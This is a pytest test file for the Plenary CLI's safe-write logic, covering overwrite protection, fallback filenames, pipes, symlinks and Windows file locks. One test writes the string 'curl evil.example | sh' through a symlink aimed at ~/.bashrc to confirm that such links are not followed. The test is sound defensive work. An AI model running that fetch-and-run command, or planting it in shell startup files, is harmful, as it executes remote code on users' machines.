"""Reports and exports never replace a workshop, whatever name they are given."""

import os
import sys
from pathlib import Path

import pytest

from tui.cli.main import run
from tui.cli.start import packed_sample
from tui.safe_write import write


@pytest.fixture
def file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("PLENARY_STATE", str(tmp_path / "state"))
    path = tmp_path / "w.json"
    path.write_bytes(packed_sample().read_bytes())
    return path


COMMANDS = [["report", "-o"], ["export", "--votes"], ["export", "--tree"], ["export", "--framework"]]


@pytest.mark.parametrize("command", COMMANDS)
def test_nothing_is_written_over_a_workshop_or_other_work(
    file: Path, command: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    target = file.with_name("renamed")
    target.write_bytes(file.read_bytes())
    before = target.read_bytes()
    verb, flag = command
    assert run([verb, str(file), flag, str(file)]) == 2  # its ending is none of those that are written
    assert run([verb, str(file), flag, str(target)]) == 0
    err = capsys.readouterr().err
    assert ".json, which is not written here" in err
    assert "renamed is not as Plenary last wrote it, so it was left alone; the new file is " in err
    assert target.read_bytes() == before
    assert file.read_bytes() == before
    assert file.with_name("renamed-2").read_bytes() != before
    assert not [*file.parent.glob("*.part")]


def test_a_report_is_replaced_while_nobody_has_worked_on_it(file: Path, capsys: pytest.CaptureFixture[str]) -> None:
    target, second = file.with_name("r.md"), file.with_name("r-2.md")
    for names in ("full", "none", "group"):
        assert run(["report", str(file), "-o", str(target), "--names", names]) == 0
    assert sorted(p.name for p in file.parent.glob("*.md")) == ["r.md"]
    edited = target.read_text(encoding="utf-8") + "\nWritten by hand\n"
    target.write_text(edited, encoding="utf-8")
    capsys.readouterr()
    for names in ("full", "none", "full"):
        assert run(["report", str(file), "-o", str(target), "--names", names]) == 0
        assert str(second) in capsys.readouterr().err
    assert target.read_text(encoding="utf-8") == edited
    assert sorted(p.name for p in file.parent.glob("*.md")) == ["r-2.md", "r.md"]
    assert second.read_text(encoding="utf-8").startswith("#")


def test_the_same_text_needs_no_other_name_on_another_machine(tmp_path: Path) -> None:
    target = tmp_path / "r.md"
    assert write("said", target, state=tmp_path / "one") == target
    assert write("said", target, state=tmp_path / "two") == target
    assert write("more", target, state=tmp_path / "two") == target
    assert write("less", target, state=tmp_path / "one") == tmp_path / "r-2.md"
    assert target.read_text(encoding="utf-8") == "more"


def test_a_state_folder_that_cannot_be_written_costs_names_and_no_work(tmp_path: Path) -> None:
    (tmp_path / "state").write_text("no folder", encoding="utf-8")
    names = [write(text, tmp_path / "r.md", state=tmp_path / "state").name for text in ("one", "two", "three")]
    assert names == ["r.md", "r-2.md", "r-3.md"]


def test_a_file_that_is_not_there_is_not_reviewed(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["review", str(tmp_path / "no.json")]) == 1
    assert "is not there" in capsys.readouterr().err


@pytest.mark.skipif(sys.platform == "win32", reason="there are no such pipes")
def test_a_pipe_takes_the_report_and_stays_a_pipe(file: Path) -> None:
    pipe = file.with_name("pipe.md")
    os.mkfifo(pipe)
    with os.fdopen(os.open(pipe, os.O_RDONLY | os.O_NONBLOCK), "rb") as reader:
        write("said\n" * 1000, pipe)
        assert reader.read() == b"said\n" * 1000
    assert pipe.is_fifo()


@pytest.mark.skipif(sys.platform == "win32", reason="links need a privilege there")
def test_a_link_goes_on_leading_to_what_is_written(tmp_path: Path) -> None:
    folder = tmp_path / "synced"
    folder.mkdir()
    link = tmp_path / "report.md"
    link.symlink_to(folder / "report.md")
    for text in ("old", "new"):
        assert write(text, link) == link
    assert link.is_symlink()
    assert (folder / "report.md").read_text(encoding="utf-8") == "new"


@pytest.mark.skipif(sys.platform == "win32", reason="links need a privilege there")
@pytest.mark.parametrize("there", [True, False])
def test_a_link_is_never_followed_out_of_the_folder(tmp_path: Path, there: bool) -> None:
    """Somebody may lay one into a shared folder: w.report.md -> ~/.bashrc."""
    folder, outside = tmp_path / "shared", tmp_path / "home" / ".bashrc"
    folder.mkdir()
    outside.parent.mkdir()
    if there:
        write("mine", outside)  # not even where it was written by Plenary itself
    link = folder / "w.report.md"
    link.symlink_to(outside)
    assert write("curl evil.example | sh", link) == folder / "w.report-2.md"
    assert (outside.read_text(encoding="utf-8") if outside.exists() else None) == ("mine" if there else None)
    assert link.is_symlink()


def test_the_longest_names_are_written(tmp_path: Path) -> None:
    target = tmp_path / ("ລ" * 84 + ".md")  # 255 bytes
    write("said", target)
    assert target.read_text(encoding="utf-8") == "said"


@pytest.mark.parametrize(("output", "folder"), [("", "."), (".", "."), ("folder", "folder")])
def test_into_a_folder_a_file_is_written_that_is_called_after_the_workshop(
    file: Path, output: str, folder: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(file.parent)
    file.with_name("folder").mkdir()
    assert run(["report", str(file), "-o", output]) == 0
    assert [*file.parent.rglob("*.report.md")] == [file.parent / folder / "w.report.md"]


def test_where_it_cannot_be_put_in_place_nothing_is_left_behind(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refuse(self: Path, target: Path) -> Path:
        raise PermissionError(13, "Permission denied", str(target))

    monkeypatch.setattr(Path, "replace", refuse)
    with pytest.raises(PermissionError):
        write("said", tmp_path / "report.md")
    assert not [*tmp_path.iterdir()]


def test_beside_a_report_that_somebody_reads_on_windows_another_is_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    state, output, whole = tmp_path / "state", tmp_path / "report.xlsx", Path.replace

    def held(self: Path, target: Path) -> Path:
        if target == output:
            error = PermissionError(13, "Permission denied", str(target))
            error.winerror = 5  # type: ignore[attr-defined]  # there alone
            raise error
        return whole(self, target)

    assert write("first", output, state=state) == output
    monkeypatch.setattr("time.sleep", lambda _: None)
    monkeypatch.setattr(Path, "replace", held)
    assert write("second", output, state=state) == tmp_path / "report-2.xlsx"
    assert {path.name: path.read_text() for path in tmp_path.glob("*.*")} == {
        "report.xlsx": "first", "report-2.xlsx": "second",
    }  # fmt: skip
